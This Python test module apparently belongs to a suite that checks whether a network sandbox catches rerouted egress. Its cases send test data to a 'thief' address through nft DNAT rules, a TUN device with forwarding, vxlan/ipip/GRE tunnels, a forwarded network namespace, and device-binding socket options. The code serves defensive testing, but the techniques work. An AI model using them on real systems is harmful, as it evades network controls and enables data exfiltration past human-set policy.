# SPDX-License-Identifier: MIT
"""Detours: what a socket was judged for is not where its packets go."""

from __future__ import annotations

import errno
import fcntl
import os
import socket
import struct
import subprocess
import sys
import time

from bypass.case import JOB, TCP_PORT, Parcel, benign, case, case6
from bypass.senders.datagrams import sendto, sendto6
from bypass.senders.echoes import ipv4, udp
from bypass.senders.streams import connect, finish

_UPLINK = "job0"
_TUNSETIFF, _IFF_TUN, _IFF_NO_PI = 0x400454CA, 1, 0x1000
_FORWARD = "/proc/sys/net/ipv4/ip_forward"
_nat = {"detour": True, "scopes": ("start",), "errors": ("EPERM", "ECONNABORTED")}
_tcp = {"port": TCP_PORT, "protocol": "tcp", "rule": "tcp://{friend}:{port}", "twin": "tcp"}
# Who may make a device may send anything. `run` takes that right away; on a whole machine these
# are for the uplink's own programs (test_uplink_*.py), which also see what audit lets pass.
_device = {
    "detour": True,
    "twin": "udp-sendto",
    "scopes": ("run",),
    "unheard": ("EPERM",),
    "audited": False,
}


def run(script: str) -> None:
    """Set up what is needed, line by line; its error is the kernel's."""
    for line in filter(None, map(str.strip, script.splitlines())):
        done = subprocess.run(line.split(), capture_output=True, text=True)
        if done.returncode:
            known = {os.strerror(number): number for number in errno.errorcode}
            text = done.stderr.replace("Unknown device type", os.strerror(errno.ENOTSUP))
            number = next((known[name] for name in known if name in text), 0)
            raise OSError(number, f"{line}: {done.stderr}")


def _translate(parcel: Parcel, seen: str, family: str = "ip") -> None:
    run(
        f"""
        nft add table {family} detour
        nft add chain {family} detour out {{ type nat hook output priority -100 ; }}
        nft add rule {family} detour out {family} daddr {seen} dnat to {parcel.to}
        """
    )


@case("dnat-tcp", **_tcp, **_nat)
def translated_stream(parcel: Parcel) -> None:
    """Connected to a friend; the address is rewritten behind the hook."""
    _translate(parcel, parcel.friend)
    connect(Parcel(parcel.friend, parcel.port, parcel.data, ""))


@case("dnat-udp", twin="udp-sendto", **_nat)
def translated_datagram(parcel: Parcel) -> None:
    """The same with datagrams."""
    _translate(parcel, parcel.friend)
    sendto(Parcel(parcel.friend, parcel.port, parcel.data, ""))


@case6("dnat-udp6", twin="udp6-sendto", **_nat)
def translated_datagram6(parcel: Parcel) -> None:
    """The same over IPv6."""
    _translate(parcel, parcel.friend, "ip6")
    sendto6(Parcel(parcel.friend, parcel.port, parcel.data, ""))


@case("dnat-of-loopback", **_tcp, **_nat)
def translated_loopback(parcel: Parcel) -> None:
    """Connected to this machine, by its address."""
    _translate(parcel, "127.0.0.9")
    connection = socket.socket()
    connection.bind((JOB[0], 0))
    connection.settimeout(5)
    connection.connect(("127.0.0.9", parcel.port))
    finish(connection, parcel.data)


@case("tun", **_device)
def tun(parcel: Parcel) -> None:
    """Packets written to a tunnel device come in from outside and are forwarded."""
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, _TUNSETIFF, struct.pack("=16sH22x", b"tun9", _IFF_TUN | _IFF_NO_PI))
    run("ip address add 10.66.0.1/24 dev tun9\nip link set tun9 up")
    with open(_FORWARD, "w") as forward:
        forward.write("1")
    inside = ipv4(parcel.to, socket.IPPROTO_UDP, udp(parcel.data), source="10.66.0.2")
    os.write(device, inside)


@case("vxlan", **_device)
def vxlan(parcel: Parcel) -> None:
    """The inner packet goes to a friend, the outer one to the thief."""
    _tunnel(parcel, f"vxlan id 7 remote {parcel.to} dstport 4789 dev {_UPLINK}")


@case("ipip", absent="ENOTSUP", **_device)
def ipip(parcel: Parcel) -> None:
    """The same, IP in IP."""
    _tunnel(parcel, f"ipip remote {parcel.to}")


@case("gre", absent="ENOTSUP", **_device)
def gre(parcel: Parcel) -> None:
    """The same by GRE."""
    _tunnel(parcel, f"gre remote {parcel.to}")


def _tunnel(parcel: Parcel, kind: str) -> None:
    run(
        f"""
        ip link add tunnel9 type {kind}
        ip address add 10.77.0.1/24 dev tunnel9
        ip link set tunnel9 up
        ip route add {parcel.friend}/32 dev tunnel9
        """
    )
    if kind.startswith("vxlan"):
        run(f"ip neighbour add {parcel.friend} lladdr 02:00:00:00:00:21 dev tunnel9")
    sendto(Parcel(parcel.friend, parcel.port, parcel.data, ""))


_INSIDE = """
import socket, sys
sys.stdin.readline()
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
    sys.argv[3].encode(), (sys.argv[1], int(sys.argv[2])))
"""


@case("forwarded", **_device)
def forwarded(parcel: Parcel) -> None:
    """From a namespace of its own to a friend; on the way through here the address is rewritten."""
    command = ["unshare", "--net", sys.executable, "-c", _INSIDE]
    command += [parcel.friend, str(parcel.port), parcel.data.decode()]
    inside = subprocess.Popen(command, stdin=subprocess.PIPE, text=True)
    try:
        _join(inside.pid)
        run(
            f"""
            nft add table ip detour
            nft add chain ip detour in {{ type nat hook prerouting priority -100 ; }}
            nft add rule ip detour in ip daddr {parcel.friend} dnat to {parcel.to}
            """
        )
        inside.communicate("\n", timeout=5)
    finally:
        inside.kill()
        inside.wait()
    if inside.returncode:
        raise OSError(errno.EPERM, "the sender inside failed")
    time.sleep(0.05)


def _join(pid: int) -> None:
    """Give the namespace of ``pid`` a way through this one."""
    deadline = time.monotonic() + 5
    ours = os.readlink("/proc/self/ns/net")
    while os.readlink(f"/proc/{pid}/ns/net") == ours and time.monotonic() < deadline:
        time.sleep(0.01)
    with open(_FORWARD, "w") as forward:
        forward.write("1")
    run(
        f"""
        ip link add port9 type veth peer name inside9 netns {pid}
        ip address add 10.88.0.1/24 dev port9
        ip link set port9 up
        nsenter --net=/proc/{pid}/ns/net ip address add 10.88.0.2/24 dev inside9
        nsenter --net=/proc/{pid}/ns/net ip link set inside9 up
        nsenter --net=/proc/{pid}/ns/net ip route add default via 10.88.0.1
        """
    )


_loopback = {"to": "127.9.9.9", "twin": "loopback", "stays": True}


@case("loopback-by-the-uplink", **_loopback)
def bound_loopback(parcel: Parcel) -> None:
    """An address of this machine, on a device that leads out (SO_BINDTODEVICE needs no root)."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, _UPLINK.encode())
    made.sendto(parcel.data, (parcel.to, parcel.port))


@case("loopback-by-message", **_loopback)
def directed_loopback(parcel: Parcel) -> None:
    """The same, the device named with the message (IP_PKTINFO)."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    way = struct.pack("=i4s4s", socket.if_nametoindex(_UPLINK), b"", b"")
    control = [(socket.IPPROTO_IP, 8, way)]  # IP_PKTINFO
    made.sendmsg([parcel.data], control, 0, (parcel.to, parcel.port))


@case("loopback-by-option", **_loopback)
def optional_loopback(parcel: Parcel) -> None:
    """The same, the device named on the socket (IP_UNICAST_IF)."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    index = struct.pack("!I", socket.if_nametoindex(_UPLINK))
    made.setsockopt(socket.IPPROTO_IP, 50, index)
    made.sendto(parcel.data, (parcel.to, parcel.port))


@benign("loopback")
def loopback(parcel: Parcel) -> None:
    """What stays on this machine needs no rule."""
    here = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    here.bind(("127.0.0.1", 0))
    here.settimeout(5)
    bound = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    bound.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
    bound.sendto(parcel.data, here.getsockname())
    assert here.recv(999) == parcel.data
